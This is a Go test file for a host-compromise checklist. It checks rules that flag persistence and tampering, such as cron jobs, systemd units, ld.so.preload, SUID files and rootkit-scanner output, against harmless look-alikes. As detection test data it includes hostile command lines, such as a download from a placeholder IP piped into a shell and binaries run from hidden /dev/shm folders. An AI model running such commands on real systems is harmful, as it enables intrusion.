package checklist

import (
	"testing"
	"time"

	"latchkey/diag"
)

// TestSystemRules holds each rule against what it must find, and against what
// looks alike and is harmless.
func TestSystemRules(t *testing.T) {
	at := time.Date(2026, 11, 21, 22, 0, 0, 0, time.UTC)
	job := func(command string) *Host { return &Host{Jobs: []Job{{Schedule: "* * * * *", Command: command}}} }
	file := func(f File) *Host { f.Command = "find"; return &Host{Files: []File{f}} }
	scan := func(tool, text, path string, noise bool) *Host {
		return &Host{Scans: []ScannerHit{{Tool: tool, Text: text, Path: path, Noise: noise}}}
	}
	cluster := func(more ...Update) *Host {
		h := &Host{Updates: more}
		for _, path := range []string{"/etc/cron.d/x", "/usr/bin/lsof", "/etc/passwd"} {
			h.Files = append(h.Files, File{Where: Where{Command: "find"}, Path: path, Time: at})
		}
		return h
	}
	for _, c := range []struct {
		name, rule string
		host       *Host
		severity   diag.Severity // "": nothing is found
	}{
		{"download into a shell", "C01", job("curl -fsSL http://192.0.2.1/i.sh | sh"), diag.Critical},
		{"decoded into a shell", "C01", job("echo ZXhpdCAw | base64 -d | sh"), diag.Critical},
		{"decoded into a file", "C01", job("base64 -d /srv/a > /srv/b"), diag.Warning},
		{"a ping of a monitor", "C01", job("curl -fsS https://example.org/ping || true"), ""},
		{"a log searched after a download", "C01", job("wget -qO- https://example.org/list | grep -c x"), ""},
		{"from a hidden folder", "C02", job("/var/tmp/.cache-x/netwrk >/dev/null 2>&1"), diag.Warning},
		{"behind cd", "C02", job("cd /dev/shm/.x && nohup ./run &"), diag.Warning},
		{"script of an interpreter", "C02", job("timeout 60 bash /tmp/a.sh"), diag.Warning},
		{"temporary files removed", "C02", job("find /tmp -mtime +7 -delete"), ""},
		{"a lock and a log in /tmp", "C02", job("flock -n /tmp/l /usr/bin/php /srv/cron.php > /tmp/log"), ""},
		{"a user's tool", "C02", job(`"/root/.acme.sh"/acme.sh --cron`), ""},
		{"unit from /var/tmp", "C03", &Host{Units: []Unit{{Name: "a.service", Exec: "-/var/tmp/.c/a"}}}, diag.Critical},
		{"unit of a package", "C03", &Host{Units: []Unit{{Name: "a.service", Exec: "/usr/sbin/a -p /tmp/a.pid"}}}, ""},
		{"almost systemd-networkd", "C04", &Host{Units: []Unit{{Name: "systemd-netwrk.service"}}}, diag.Notice},
		{"systemd-networkd", "C04", &Host{Units: []Unit{{Name: "systemd-networkd.service"}}}, ""},
		{"a package's own systemd unit", "C04", &Host{Units: []Unit{{Name: "systemd-cron-cleaner.service"}}}, ""},
		{"an instance", "C04", &Host{Units: []Unit{{Name: "systemd-fsck@dev-sda1.service"}}}, ""},
		{"preloaded library", "C05", &Host{Settings: []Setting{{Name: "ld.so.preload", Value: "/usr/local/lib/libx.so"}}}, diag.Critical},
		{"preload file in a list", "C05", file(File{Path: "/etc/ld.so.preload", Size: 20}), diag.Critical},
		{"empty preload file", "C05", file(File{Path: "/etc/ld.so.preload"}), ""},
		{"changed program", "I01", &Host{Changes: []Change{{Path: "/usr/bin/lsof", Flags: "??5??????"}}}, diag.Critical},
		{"changed setting", "I01", &Host{Changes: []Change{{Path: "/etc/ssh/sshd_config", Flags: "??5??????", Config: true}}}, ""},
		{"missing manual", "I01", &Host{Changes: []Change{{Path: "/usr/share/doc/bash/README", Flags: "missing"}}}, ""},
		{"missing program", "I01", &Host{Changes: []Change{{Path: "/usr/bin/last", Flags: "missing"}}}, diag.Notice},
		{"only the time", "I01", &Host{Changes: []Change{{Path: "/usr/bin/ls", Flags: ".......T."}}}, ""},
		{"SUID in /var/tmp", "I04", file(File{Path: "/var/tmp/.c/x", SUID: true}), diag.Critical},
		{"SUID shell in place", "I04", file(File{Path: "/usr/bin/bash", SUID: true}), diag.Critical},
		{"SUID seen from rescue", "I04", file(File{Path: "/mnt/var/tmp/x", SUID: true}), diag.Critical},
		{"sudo", "I04", file(File{Path: "/usr/bin/sudo", SUID: true}), ""},
		{"sudo of a container", "I04", file(File{Path: "/var/lib/docker/overlay2/a/diff/usr/bin/sudo", SUID: true}), ""},
		{"immutable job", "I05", file(File{Path: "/etc/cron.d/x", Immutable: true}), diag.Warning},
		{"immutable key", "I05", file(File{Path: "/root/.ssh/authorized_keys", Immutable: true}), diag.Warning},
		{"immutable key that A03 tells", "I05", &Host{Files: []File{{Path: "/root/.ssh/authorized_keys", Immutable: true}}, Keys: []Key{{User: "root"}}}, ""},
		{"a name that steers the screen", "I10", file(File{Path: "/tmp/x", Masked: true}), diag.Notice},
		{"a job of 5000 characters", "C06", &Host{Jobs: []Job{{Command: "x", Length: 5000}}}, diag.Notice},
		{"a failing disk", "K06", faults(Fault{Kind: FaultDisk, Device: "sda", Count: 3}), diag.Warning},
		{"corrected memory", "K07", faults(Fault{Kind: FaultMemory, Corrected: true}), diag.Notice},
		{"memory, one log knows more", "K07", faults(Fault{Kind: FaultMemory, Corrected: true, Count: 9}, Fault{Kind: FaultMemory, Count: 1}), diag.Warning},
		{"memory, the other way round", "K07", faults(Fault{Kind: FaultMemory, Count: 1}, Fault{Kind: FaultMemory, Corrected: true, Count: 9}), diag.Warning},
		{"a closed file system", "K08", faults(Fault{Kind: FaultFiles, Device: "md2"}), diag.Warning},
		{"want of memory", "K09", faults(Fault{Kind: FaultRoom, Device: "mysqld"}), diag.Notice},
		{"no fault", "K06", faults(), ""},
		{"lynis on two roots", "R05", &Host{Scans: []ScannerHit{{Tool: "lynis", Test: "AUTH-9204"}}}, diag.Notice},
		{"lynis on a setting", "R05", &Host{Scans: []ScannerHit{{Tool: "lynis", Test: "MAIL-8818"}}}, diag.Info},
		{"lynis suggests", "R05", &Host{Scans: []ScannerHit{{Tool: "lynis", Test: "SSH-7408", Noise: true}}}, ""},
		{"a scanner without a voice", "R07", &Host{Scans: []ScannerHit{{Tool: "rkhunter", Noise: true, Mute: true}}}, diag.Notice},
		{"immutable resolv.conf", "I05", file(File{Path: "/etc/resolv.conf", Immutable: true}), ""},
		{"changes at one time", "I06", cluster(), diag.Notice},
		{"changes while apt ran", "I06", cluster(Update{Time: at, End: at.Add(time.Minute)}), ""},
		{"program in /dev/shm", "I07", file(File{Path: "/dev/shm/x", Executable: true}), diag.Warning},
		{"data in /tmp", "I07", file(File{Path: "/tmp/x"}), ""},
		{"folder of dots", "I08", file(File{Path: "/usr/lib/..."}), diag.Warning},
		{"sockets of X", "I08", file(File{Path: "/tmp/.X11-unix"}), ""},
		{"program written here", "I09", file(File{Path: "/usr/bin/lsof", Executable: true, Time: at, Written: at}), diag.Notice},
		{"program from a package", "I09", file(File{Path: "/usr/bin/ps", Executable: true, Time: at, Written: at.AddDate(-3, 0, 0)}), ""},
		{"rkhunter", "R01", scan("rkhunter", "The file properties have changed:", "/usr/bin/lsof", false), diag.Warning},
		{"rkhunter noise", "R01", scan("rkhunter", "The host name has changed", "", true), ""},
		{"chkrootkit", "R02", scan("chkrootkit", "You have 1 process hidden for ps command", "", false), diag.Warning},
		{"a name of malware", "R03", scan("chkrootkit", "", "/tmp/xm", false), diag.Warning},
		{"noise is counted", "R04", scan("chkrootkit", "x", "/usr/lib/python3/dist-packages/fail2ban/tests/.htaccess", true), diag.Info},
		{"other kernel", "K01", &Host{Boots: []Boot{{Kernel: "6.1.0-50-amd64", Time: at}, {Kernel: "6.1.0-47-amd64", Time: at.Add(-time.Hour)}}}, diag.Notice},
		{"name cut by last", "K01", &Host{Boots: []Boot{{Kernel: "6.1.0-50-cloud-a", Time: at}, {Kernel: "6.1.0-50-cloud-amd64", Time: at.Add(-time.Hour)}}}, ""},
		{"newer kernel waits", "K01b", &Host{Kernel: Kernel{Running: "6.1.0-9-amd64", Installed: []string{"6.1.0-9-amd64", "6.1.0-10-amd64"}}}, diag.Notice},
		{"newest runs", "K01b", &Host{Kernel: Kernel{Running: "6.1.0-10-amd64", Installed: []string{"6.1.0-9-amd64", "6.1.0-10-amd64"}}}, ""},
		{"firewall failed", "K03", &Host{Units: []Unit{{Where: Where{Command: "systemctl"}, Name: "host-firewall.service", State: "failed"}}}, diag.Warning},
		{"auditd in a container", "K03", &Host{Units: []Unit{{Where: Where{Command: "systemctl"}, Name: "auditd.service", State: "failed"}}}, diag.Notice},
		{"firewall runs", "K03", &Host{Units: []Unit{{Where: Where{Command: "systemctl"}, Name: "nftables.service", State: "exited"}}}, ""},
		{"degraded", "K04", &Host{Arrays: []Array{{Name: "md0", Missing: 1, Progress: -1}}}, diag.Warning},
		{"whole", "K04", &Host{Arrays: []Array{{Name: "md0", State: "active raid1", Progress: -1}}}, ""},
		{"check runs", "K05", &Host{Arrays: []Array{{Name: "md0", Progress: 4}}}, diag.Info},
	} {
		t.Run(c.rule+" "+c.name, func(t *testing.T) {
			var got diag.Severity
			for _, f := range Judge(c.host) {
				if f.Rule == c.rule && got == "" {
					got = f.Severity
				}
			}
			if got != c.severity {
				t.Errorf("%s: %q, want %q", c.rule, got, c.severity)
			}
		})
	}
}

func faults(list ...Fault) *Host { return &Host{Faults: list} }

// TestKernelByDNF: who brought the kernel that runs since the last start is told
// by dnf's history as by apt's.
func TestKernelByDNF(t *testing.T) {
	h := machine(t, map[string]string{
		"last -wx reboot": "reboot   system boot  5.14.0-570.12.1.el9_6.x86_64 Mon Mar  2 03:10   still running\n" +
			"reboot   system boot  5.14.0-427.13.1.el9_4.x86_64 Thu Jan 15 04:00 - 03:08 (45+23:08)\n\nwtmp begins Thu Jan 15 04:00:00 2026\n",
		"dnf history info": "Transaction ID : 14\nBegin time     : Sun 01 Mar 2026 09:14:07 PM CET\nUser           : root <root>\nReturn-Code    : Success\n" +
			"Command Line   : -y update\nPackages Altered:\n    Install kernel-core-5.14.0-570.12.1.el9_6.x86_64 @baseos\n",
	})
	for _, f := range Judge(h) {
		if f.Rule == "K01" && f.Params["command"] == "-y update" && f.Params["kernel"] == "5.14.0-570.12.1.el9_6.x86_64" {
			return
		}
	}
	t.Errorf("%+v", Judge(h))
}
